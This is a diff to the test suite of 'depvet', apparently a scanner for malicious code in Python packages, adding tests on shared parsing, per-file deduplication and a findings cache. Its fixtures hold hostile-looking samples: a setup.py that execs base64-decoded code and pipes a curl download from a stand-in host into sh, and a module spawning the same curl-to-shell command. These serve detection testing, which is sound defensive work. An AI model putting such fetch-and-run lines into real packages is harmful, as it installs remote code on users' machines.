@@ -2,17 +2,24 @@
 
 from __future__ import annotations
 
+import ast
 import base64
 import os
 import time
 import zlib
 from collections.abc import Iterable
+from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
+import pytest
+
+from depvet import scan as scan_module
+from depvet.detectors import registry
 from depvet.files import FileRole, FileView
 from depvet.limits import Limits, MiB
-from depvet.model import Finding, Rule, ScanResult, Target, Verdict
-from depvet.scan import ScanOptions, _run_detectors, scan
+from depvet.model import Finding, Rule, RuleKind, ScanResult, Scope, Severity, Target, Verdict
+from depvet.scan import ScanOptions, SeenFiles, _run_detectors, scan
 from depvet.sources.paths import PathSource
 from tests.builders import LITELLM_PTH_LINE, make_sdist, make_wheel, write_tar, write_zip
 
@@ -131,6 +138,85 @@ def test_per_file_time_budget() -> None:
     assert time.monotonic() - started < 5
     assert findings == []
     assert error is not None and error.reference == "file-timeout" and error.path == "x.py"
+
+
+def test_detectors_of_a_file_share_one_parse(monkeypatch: pytest.MonkeyPatch) -> None:
+    hidden = base64.b64encode(b"import os\nos.system('true')\n").decode()
+    setup = (
+        "import base64, os\nfrom setuptools import setup\n"
+        f"exec(base64.b64decode('{hidden}'))\n"
+        "os.system('curl -s https://payload.example.invalid/a | sh')\n"
+        "setup(name='demo', version='1.0')\n"
+    )
+    view = FileView(path="setup.py", role=FileRole.SETUP, data=setup.encode())
+    wanted = [d for d in registry.detectors() if d.wants(view)]
+    parsed: list[str] = []
+    real_parse = ast.parse
+
+    def counting_parse(source: str, *args: Any, **kwargs: Any) -> Any:
+        parsed.append(source)
+        return real_parse(source, *args, **kwargs)
+
+    monkeypatch.setattr(ast, "parse", counting_parse)
+    alone = [f for d in wanted for f in d.scan(view)]  # each detector on its own
+    assert parsed.count(setup) >= 3
+    parsed.clear()
+    findings, error = _run_detectors(view, wanted, 10.0)
+    assert error is None
+    assert parsed.count(setup) == 1
+    assert {"setup-install-shell-download", "encoded-python-payload"} <= {f.rule for f in alone}
+    assert set(alone) <= set(findings)
+    assert any("in code decoded by" in f.message for f in findings)
+
+
+def test_a_file_repeated_across_packages_is_scanned_once(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    module = (
+        "import subprocess\n"
+        "subprocess.Popen(['sh', '-c', 'curl -s https://a.example.invalid | sh'])\n"
+    )
+    for version in ("1.0", "1.1"):
+        make_wheel(tmp_path, "demo", version, {"demo/__init__.py": module, "demo/run.py": module})
+    scanned: list[str] = []
+    real_run = scan_module._run_detectors
+
+    def counting_run(view: FileView, *args: Any) -> Any:
+        scanned.append(view.path)
+        return real_run(view, *args)
+
+    monkeypatch.setattr(scan_module, "_run_detectors", counting_run)
+    first, second = run(*sorted(tmp_path.glob("*.whl")))
+    # The same bytes under another name are scanned again: names matter to some rules.
+    assert scanned.count("demo/__init__.py") == 1 and scanned.count("demo/run.py") == 1
+    assert first.findings and first.findings == second.findings
+    assert {f.path for f in first.findings if f.rule.startswith("import-")} == {
+        "demo/__init__.py",
+        "demo/run.py",
+    }
+
+
+def test_seen_files_place_findings_at_the_new_path() -> None:
+    seen = SeenFiles(size=2)
+    view = FileView(path="a/x.py", role=FileRole.PYTHON, data=b"x = 1\n")
+    finding = Finding(
+        rule="r",
+        severity=Severity.LOW,
+        kind=RuleKind.CAPABILITY,
+        path="a/x.py",
+        line=1,
+        message="m",
+        evidence="e",
+        scope=Scope.IMPORT,
+    )
+    elsewhere = replace(finding, path="a/other.py")
+    key = seen.key(view, b"digest", [])
+    assert seen.get(key, "b/x.py") is None
+    seen.put(key, "a/x.py", [finding, elsewhere])
+    assert seen.get(key, "b/x.py") == [replace(finding, path="b/x.py"), elsewhere]
+    seen.put(seen.key(view, b"other", []), "a/x.py", [])
+    seen.put(seen.key(view, b"third", []), "a/x.py", [])
+    assert seen.get(key, "b/x.py") is None  # the oldest went beyond the size
 
 
 def snapshot(root: Path) -> set[str]:
